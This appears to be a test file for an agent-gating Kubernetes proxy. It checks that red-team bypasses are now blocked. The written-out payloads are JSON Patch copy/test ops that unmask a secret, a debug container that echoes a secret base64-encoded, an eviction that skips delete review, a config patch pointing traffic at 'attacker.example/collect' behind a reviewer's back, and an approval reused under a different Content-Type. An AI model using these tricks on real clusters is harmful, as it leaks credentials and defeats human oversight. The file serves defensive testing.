/**
 * Wave 3 red team: the Kubernetes proxy against an agent that uses the API server's own
 * write paths to move masked values where masking does not look, reaches code execution
 * through subresources a `pods` rule covers, and asks a reviewer to approve what the
 * reviewer cannot see. Each of the red team's tests (W3-K1…K5) failed before the fixes; the
 * others cover the rest of the fix (other patch operations, Content-Type in the approval,
 * paths in approvals, `#` in a target, a non-101 answer to an upgrade). Each fails with its
 * fix reverted (mutation-checked).
 *
 * The stand-in (test/helpers/kube-apiserver.ts) was extended only as far as the real API
 * server behaves: PATCH with RFC 6902 JSON Patch / RFC 7386 merge patch and `dryRun=All`,
 * and (a fault knob) an upgrade answered with a given non-101 response.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import tls from 'node:tls';
import { startK8sStack, TARGET, eventually, type K8sStack } from './stack.js';
import type { PolicyConfig } from '../../src/broker/config/types.js';
import { requestDetails, requestsTable } from '../../src/ui/format.js';
import { requestJson } from '../../src/broker/approvals/view.js';
import type { ApprovalRequest } from '../../src/broker/approvals/types.js';
import type { RequestView } from '../../src/shared/api-types.js';

/** A held request as `agentgate requests` / `approve ID` / the screen get it from the broker. */
const view = (r: ApprovalRequest): RequestView => ({ ...requestJson(r), mine: false, can_decide: true });

const PASSWORD = 'hunter2-in-the-clear';

/** One raw HTTP/1.1 request (Connection: close) over the session's listener; the whole answer. */
async function raw(stack: K8sStack, method: string, path: string, opts: { headers?: Record<string, string>; body?: string } = {}): Promise<{ status: number; text: string }> {
  const socket = tls.connect({ host: '127.0.0.1', port: stack.main.port, ca: stack.main.endpoint.caPem });
  await new Promise<void>((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
  let received = '';
  socket.on('data', (c: Buffer) => (received += c.toString('utf8')));
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const body = opts.body ?? '';
  const headers = { Host: 'x', Authorization: `Bearer ${stack.main.session.secret}`, Connection: 'close', Accept: 'application/json', ...(body ? { 'Content-Length': String(Buffer.byteLength(body)) } : {}), ...opts.headers };
  socket.write(`${method} ${path} HTTP/1.1\r\n${Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n${body}`);
  await Promise.race([closed, new Promise((r) => setTimeout(r, 10_000))]);
  socket.destroy();
  const status = Number(/^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 0);
  return { status, text: received };
}

const policy = (rules: PolicyConfig['rules']): PolicyConfig[] => [{ name: 'agents-k8s', subjects: { groups: ['ai-agents'] }, targets: [TARGET], rules }];
const READ = { name: 'read', k8s: { verbs: ['get', 'list', 'watch'], resources: ['*', '!secrets'] }, effect: 'allow' as const, extra: {} };
const NO_EXEC = { name: 'no-exec', k8s: { verbs: ['exec', 'attach', 'portforward', 'proxy'] }, effect: 'deny' as const, extra: {} };
const DELETE_HELD = { name: 'delete-held', k8s: { verbs: ['delete'] }, effect: 'review' as const, approvers: { groups: ['sre'], count: 1 }, extra: {} };
const REST = { name: 'rest', effect: 'deny' as const, extra: {} };

describe('wave 3: masked values moved by a server-side patch', () => {
  let stack: K8sStack;
  before(async () => {
    // An agent may edit ConfigMaps (a common "tune the app's settings" grant); it reads them masked.
    stack = await startK8sStack({ policies: policy([READ, { name: 'edit-config', k8s: { verbs: ['patch'], resources: ['configmaps'] }, effect: 'allow', extra: {} }, REST]) });
    stack.api.put('configmaps', { metadata: { name: 'app-config', namespace: 'default' }, data: { DB_PASSWORD: PASSWORD, MODE: 'production' } });
  });
  after(async () => {
    await stack?.close();
  });

  test('W3-K1. a JSON Patch `copy` (dryRun=All) of a masked ConfigMap value to an innocuous key comes back in the clear', async () => {
    // The read is masked: DB_PASSWORD's value never shows.
    const got = await raw(stack, 'GET', '/api/v1/namespaces/default/configmaps/app-config');
    assert.equal(got.status, 200, got.text);
    assert.ok(!got.text.includes(PASSWORD), 'sanity: a plain read is masked');

    // The same value, moved server-side to a key whose name is not secret-looking. dryRun:
    // nothing changes in the cluster, and nothing needed to be known about the value.
    const patched = await raw(stack, 'PATCH', '/api/v1/namespaces/default/configmaps/app-config?dryRun=All', {
      headers: { 'Content-Type': 'application/json-patch+json' },
      body: JSON.stringify([{ op: 'copy', from: '/data/DB_PASSWORD', path: '/data/notes' }]),
    });
    assert.equal(stack.api.get('configmaps', 'default', 'app-config')?.['data'] && (stack.api.get('configmaps', 'default', 'app-config')?.['data'] as Record<string, string>)['notes'], undefined, 'dryRun: the cluster is unchanged');
    assert.ok(!patched.text.includes(PASSWORD), `the masked value leaked through the patch response:\n${patched.text.slice(-400)}`);
    assert.equal(patched.status, 403, patched.text);
    assert.match(patched.text, /JSON Patch operation 0 is \\"copy\\"/);
  });

  test('W3-K1b. move, test (an oracle), malformed and oversized JSON Patches never reach the API server; add/replace and merge patches do', async () => {
    const path = '/api/v1/namespaces/default/configmaps/app-config?dryRun=All';
    const jsonPatch = (body: string): Promise<{ status: number; text: string }> => raw(stack, 'PATCH', path, { headers: { 'Content-Type': 'application/json-patch+json; charset=utf-8' }, body });
    const before = stack.api.requests.length;
    const refused = [
      JSON.stringify([{ op: 'move', from: '/data/DB_PASSWORD', path: '/metadata/annotations/x' }]),
      JSON.stringify([{ op: 'replace', path: '/data/MODE', value: 'x' }, { op: 'test', path: '/data/DB_PASSWORD', value: PASSWORD }]),
      '[{"op":"copy"',
      JSON.stringify({ op: 'copy', from: '/data/DB_PASSWORD', path: '/data/notes' }),
      JSON.stringify([{ from: '/data/DB_PASSWORD', path: '/data/notes' }]),
    ];
    for (const body of refused) {
      const r = await jsonPatch(body);
      assert.equal(r.status, 403, `${body}: ${r.text}`);
      assert.ok(!r.text.includes(PASSWORD));
    }
    // Past the limit agentgate reads (the API server's own 3 MiB): refused, not passed unread.
    const big = await jsonPatch(JSON.stringify([{ op: 'add', path: '/data/big', value: 'x'.repeat(3 * 1024 * 1024) }, { op: 'copy', from: '/data/DB_PASSWORD', path: '/data/notes' }]));
    assert.equal(big.status, 413, big.text.slice(0, 400));
    assert.deepEqual(stack.api.requests.slice(before).map((q) => `${q.method} ${q.url}`), [], 'none of them reached the API server');

    // Controls: a patch that only carries its own values goes through, as does a merge patch.
    const ok = await jsonPatch(JSON.stringify([{ op: 'replace', path: '/data/MODE', value: 'staging' }]));
    assert.equal(ok.status, 200, ok.text);
    assert.match(ok.text, /"MODE":"staging"/);
    const merge = await raw(stack, 'PATCH', path, { headers: { 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ data: { MODE: 'staging' } }) });
    assert.equal(merge.status, 200, merge.text);
    assert.ok(!merge.text.includes(PASSWORD), 'the patched object comes back masked');
    const decisions = (await stack.events()).filter((e) => e.type === 'k8s.request' && e.detail['verb'] === 'patch' && e.decision?.effect === 'deny');
    assert.ok(decisions.some((e) => /"test", which reads a value on the API server/.test(String(e.decision?.reason))), 'the refusal is on record with its reason');
  });

  test('W3-K1c. kubectl patch --type=json with a copy is refused; with a replace it is applied', async () => {
    const copy = await stack.kubectl(['patch', 'configmap', 'app-config', '--type=json', '-p', '[{"op":"copy","from":"/data/DB_PASSWORD","path":"/data/notes"}]', '--dry-run=server', '-o', 'json']);
    assert.notEqual(copy.code, 0, copy.stdout);
    assert.ok(!copy.stdout.includes(PASSWORD) && !copy.stderr.includes(PASSWORD));
    assert.match(copy.stderr, /reads a value on the API server/);
    const replace = await stack.kubectl(['patch', 'configmap', 'app-config', '--type=json', '-p', '[{"op":"replace","path":"/data/MODE","value":"canary"}]']);
    assert.equal(replace.code, 0, replace.stderr);
    assert.equal((stack.api.get('configmaps', 'default', 'app-config')?.['data'] as Record<string, string>)['MODE'], 'canary');
  });

  test('a raw "#" in the request target is refused with 400 before the API server sees it', async () => {
    const before = stack.api.requests.length;
    for (const target of ['/api/v1/namespaces/default/secrets#x', '/api/v1/namespaces/default/configmaps#/../secrets', '/api/v1/namespaces/default/configmaps?labelSelector=a#b']) {
      const r = await raw(stack, 'GET', target);
      assert.equal(r.status, 400, `${target}: ${r.text}`);
      assert.match(r.text, /raw \\?"#\\?"/);
    }
    assert.deepEqual(stack.api.requests.slice(before).map((q) => q.url), []);
    // Percent-encoded, it is an ordinary character of a name (the API server answers 404).
    const encoded = await raw(stack, 'GET', '/api/v1/namespaces/default/configmaps/a%23b');
    assert.equal(encoded.status, 404, encoded.text);
  });

  test('W3-K5. a detector-flagged value in the request path or a fieldSelector name is not written raw to the audit log', async () => {
    const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
    await raw(stack, 'GET', `/api/v1/namespaces/default/configmaps/${AWS_KEY}`);
    await raw(stack, 'GET', `/api/v1/namespaces/default/configmaps?fieldSelector=metadata.name%3D${AWS_KEY}`);
    const recs = (await stack.events()).filter((e) => e.type === 'k8s.request' || e.type === 'k8s.request.intent');
    const mine = recs.filter((e) => String(e.detail['path']).includes('configmaps') && e.detail['verb'] !== 'patch');
    assert.ok(mine.length >= 2);
    // The query string is masked (shownQuery), the same value in `path` and `name` is not.
    const leaked = mine.filter((e) => JSON.stringify(e.detail).includes(AWS_KEY)).map((e) => e.detail);
    assert.deepEqual(leaked, [], 'the audit log holds a value its detectors mask everywhere else');
  });

  test('W3-K5b. the approval statement and classification a reviewer sees, and the audit log holds, mask the path', async () => {
    const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
    // Any upgrade of a stream nothing masks: denied here (no exec rule); its events are masked too.
    const r = await raw(stack, 'POST', `/api/v1/namespaces/default/pods/${AWS_KEY}/exec?command=sh`, { headers: { Connection: 'Upgrade', Upgrade: 'SPDY/3.1' } });
    assert.equal(r.status, 403, r.text);
    const recs = (await stack.events()).filter((e) => String(e.detail['path'] ?? '').includes('/exec'));
    assert.ok(recs.length >= 1);
    assert.deepEqual(recs.filter((e) => JSON.stringify(e).includes(AWS_KEY)).map((e) => e.detail), []);
  });
});

describe('wave 3: subresources a `pods` rule covers', () => {
  let stack: K8sStack;
  before(async () => {
    // "Agents may label pods and create pods; exec/attach are denied; deletes are reviewed."
    stack = await startK8sStack({ policies: policy([READ, NO_EXEC, DELETE_HELD, { name: 'label-and-create-pods', k8s: { verbs: ['patch', 'create'], resources: ['pods'] }, effect: 'allow', extra: {} }, REST]) });
    stack.api.put('pods', { metadata: { name: 'web-1', namespace: 'default' }, spec: { containers: [{ name: 'web', image: 'nginx' }] } });
  });
  after(async () => {
    await stack?.close();
  });

  test('W3-K2. an ephemeral container (kubectl debug: PATCH pods/ephemeralcontainers) is code execution in the pod: refused like exec', async () => {
    const before = stack.api.requests.length;
    // Runs a command of the agent's choosing inside web-1's pod, with any Secret of the
    // namespace as env; its output is then read with `kubectl logs -c debugger` (a `get`).
    const body = {
      spec: {
        ephemeralContainers: [
          { name: 'debugger', image: 'busybox', command: ['sh', '-c', 'echo $DB | base64'], targetContainerName: 'web', env: [{ name: 'DB', valueFrom: { secretKeyRef: { name: 'db-creds', key: 'password' } } }] },
        ],
      },
    };
    const r = await raw(stack, 'PATCH', '/api/v1/namespaces/default/pods/web-1/ephemeralcontainers', {
      headers: { 'Content-Type': 'application/strategic-merge-patch+json' },
      body: JSON.stringify(body),
    });
    const reached = stack.api.requests.slice(before).filter((q) => q.url.includes('/ephemeralcontainers'));
    assert.deepEqual(reached.map((q) => `${q.method} ${q.url}`), [], `the ephemeral-container patch reached the API server (answer ${r.status}); the exec deny rule never applied`);
    assert.equal(r.status, 403);
  });

  test('W3-K3. an eviction (POST pods/eviction, which deletes the pod) is not a way around the delete review', async () => {
    const before = stack.api.requests.length;
    const r = await raw(stack, 'POST', '/api/v1/namespaces/default/pods/web-1/eviction', {
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'web-1', namespace: 'default' } }),
    });
    const reached = stack.api.requests.slice(before).filter((q) => q.url.includes('/eviction'));
    assert.deepEqual(reached.map((q) => `${q.method} ${q.url}`), [], `the eviction reached the API server unreviewed (answer ${r.status})`);
  });
});

describe('wave 3: what a reviewer approves', () => {
  let stack: K8sStack;
  before(async () => {
    stack = await startK8sStack({ policies: policy([READ, { name: 'patch-held', k8s: { verbs: ['patch', 'create'] }, effect: 'review', approvers: { groups: ['sre'], count: 1 }, extra: {} }, REST]) });
    stack.api.put('configmaps', { metadata: { name: 'app-config', namespace: 'default' }, data: { MODE: 'production', UPSTREAM: 'https://payments.internal' } });
  });
  after(async () => {
    await stack?.close();
  });

  test('W3-K4. a held PATCH shows the reviewer what it changes (the body), not only its path', async () => {
    const body = JSON.stringify({ data: { UPSTREAM: 'https://attacker.example/collect' } });
    const held = await raw(stack, 'PATCH', '/api/v1/namespaces/default/configmaps/app-config', { headers: { 'Content-Type': 'application/merge-patch+json' }, body });
    assert.equal(held.status, 403, held.text);
    assert.match(held.text, /approval required: (apr_\w+)/);
    const pending = await eventually('the held patch', () => stack.broker.approvals.list(stack.reviewer(), {}).requests.find((q) => q.status === 'pending'));
    // What the reviewer is shown: the statement and classification. The change itself is
    // nowhere in it, yet the approval releases exactly this body.
    const shown = JSON.stringify({ statement: pending.statement, classification: pending.classification, parameters: (pending as { parameters?: unknown }).parameters, body: pending.body });
    assert.ok(shown.includes('attacker.example'), `the reviewer approves blind: ${shown}`);
    // Wherever the request is shown: the body with its Content-Type.
    assert.deepEqual(pending.body?.contentType, 'application/merge-patch+json');
    assert.match(requestDetails(view(pending)), /Content-Type\s+application\/merge-patch\+json/);
    assert.match(requestDetails(view(pending)), /attacker\.example/);
    assert.match(requestsTable([view(pending)]), /-- application\/merge-patch\+json \{ "data"/);
    const requested = (await stack.events()).find((e) => e.type === 'approval.requested' && e.detail['statement'] === pending.statement);
    assert.match(JSON.stringify(requested?.detail['body']), /attacker\.example/, 'the approval request on record holds the body too');
  });

  test('W3-K4b. an approval releases the body with its Content-Type: the same bytes as another patch type are held again', async () => {
    const body = JSON.stringify({ data: { MODE: 'maintenance' } });
    const path = '/api/v1/namespaces/default/configmaps/app-config';
    const held = await raw(stack, 'PATCH', path, { headers: { 'Content-Type': 'application/merge-patch+json' }, body });
    const id = /approval required: (apr_\w+)/.exec(held.text)?.[1];
    assert.ok(id, held.text);
    await stack.broker.approvals.decide(id, stack.reviewer(), 'approve', 'fine');
    const before = stack.api.requests.length;
    // Approved as a merge patch; sent as a strategic merge patch it means something else on the server.
    const other = await raw(stack, 'PATCH', path, { headers: { 'Content-Type': 'application/strategic-merge-patch+json' }, body });
    assert.equal(other.status, 403, other.text);
    assert.match(other.text, /approval required: apr_/);
    assert.ok(!other.text.includes(id));
    assert.deepEqual(stack.api.requests.slice(before).map((q) => q.method), []);
    const same = await raw(stack, 'PATCH', path, { headers: { 'Content-Type': 'application/merge-patch+json' }, body });
    assert.equal(same.status, 200, same.text);
    assert.equal((stack.api.get('configmaps', 'default', 'app-config')?.['data'] as Record<string, string>)['MODE'], 'maintenance');
  });

  test('W3-K4c. a held Secret create shows the reviewer its body masked; control and bidi characters are escaped', async () => {
    const VALUE = 'tiger-tiger-burning-bright';
    const body = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'new\u202eterces', namespace: 'default' }, data: { password: Buffer.from(VALUE).toString('base64') } });
    const held = await raw(stack, 'POST', '/api/v1/namespaces/default/secrets', { headers: { 'Content-Type': 'application/json' }, body });
    const id = /approval required: (apr_\w+)/.exec(held.text)?.[1];
    assert.ok(id, held.text);
    const pending = stack.broker.approvals.list(stack.reviewer(), {}).requests.find((q) => q.id === id);
    assert.ok(pending?.body);
    assert.ok(!pending.body.text.includes(Buffer.from(VALUE).toString('base64')), pending.body.text);
    const details = requestDetails(view(pending));
    assert.ok(!details.includes('\u202e'), 'the bidi override is escaped');
    assert.match(details, /new\\u\{202e\}terces/);
    const requested = (await stack.events()).find((e) => e.type === 'approval.requested' && JSON.stringify(e).includes(id));
    assert.ok(requested && !JSON.stringify(requested).includes(Buffer.from(VALUE).toString('base64')), 'nor is the value in the audit log');
  });

  test('W3-K5c. a detector-flagged value in a held request\'s path is masked in the statement the reviewer sees', async () => {
    const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
    const held = await raw(stack, 'PATCH', `/api/v1/namespaces/default/configmaps/${AWS_KEY}`, { headers: { 'Content-Type': 'application/merge-patch+json' }, body: '{"data":{"a":"b"}}' });
    const id = /approval required: (apr_\w+)/.exec(held.text)?.[1];
    assert.ok(id, held.text);
    const pending = stack.broker.approvals.list(stack.reviewer(), {}).requests.find((q) => q.id === id);
    assert.ok(pending);
    assert.ok(!JSON.stringify({ s: pending.statement, c: pending.classification }).includes(AWS_KEY), pending.statement);
    assert.ok(!JSON.stringify(await stack.events()).includes(AWS_KEY), 'nothing in the audit log holds it');
  });
});

describe('wave 3: an upgrade answered with anything but 101', () => {
  let stack: K8sStack;
  const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
  before(async () => {
    stack = await startK8sStack({ policies: policy([READ, { name: 'exec', k8s: { verbs: ['exec'], resources: ['pods'] }, effect: 'allow', extra: {} }, REST]) });
    stack.api.put('pods', { metadata: { name: 'web-1', namespace: 'default' }, spec: { containers: [{ name: 'web', image: 'nginx' }] } });
  });
  after(async () => {
    await stack?.close();
  });

  const exec = (): Promise<{ status: number; text: string }> =>
    raw(stack, 'POST', '/api/v1/namespaces/default/pods/web-1/exec?command=env&stdout=true', { headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Protocol': 'v5.channel.k8s.io' } });

  test('the answer is masked like any response: JSON by the object maskers, text by the detectors, other encodings refused', async () => {
    // What a real server relays for an upgrade the backend refused (a `proxy`'s backend error page, say).
    stack.api.upgradeAnswer = { status: 500, contentType: 'application/json', body: JSON.stringify({ kind: 'Status', apiVersion: 'v1', status: 'Failure', message: `backend said: key=${AWS_KEY}`, code: 500 }) };
    const json = await exec();
    assert.equal(json.status, 500, json.text);
    assert.ok(!json.text.includes(AWS_KEY), json.text);
    assert.match(json.text, /backend said/);

    stack.api.upgradeAnswer = { status: 502, contentType: 'text/html', body: `<pre>AWS_ACCESS_KEY_ID=${AWS_KEY}</pre>` };
    const text = await exec();
    assert.equal(text.status, 502, text.text);
    assert.ok(!text.text.includes(AWS_KEY), text.text);

    stack.api.upgradeAnswer = { status: 200, contentType: 'application/octet-stream', body: AWS_KEY };
    const binary = await exec();
    assert.equal(binary.status, 502, binary.text);
    assert.ok(!binary.text.includes(AWS_KEY), binary.text);
    assert.match(binary.text, /cannot mask/);

    stack.api.upgradeAnswer = { status: 404, contentType: 'application/json', encoding: 'gzip', body: AWS_KEY };
    const gzip = await exec();
    assert.equal(gzip.status, 502, gzip.text);
    assert.ok(!gzip.text.includes(AWS_KEY));
    stack.api.upgradeAnswer = undefined;

    const ends = (await stack.events()).filter((e) => e.type === 'k8s.stream.end');
    assert.ok(ends.length >= 4);
    assert.ok(!JSON.stringify(ends).includes(AWS_KEY));
  });
});
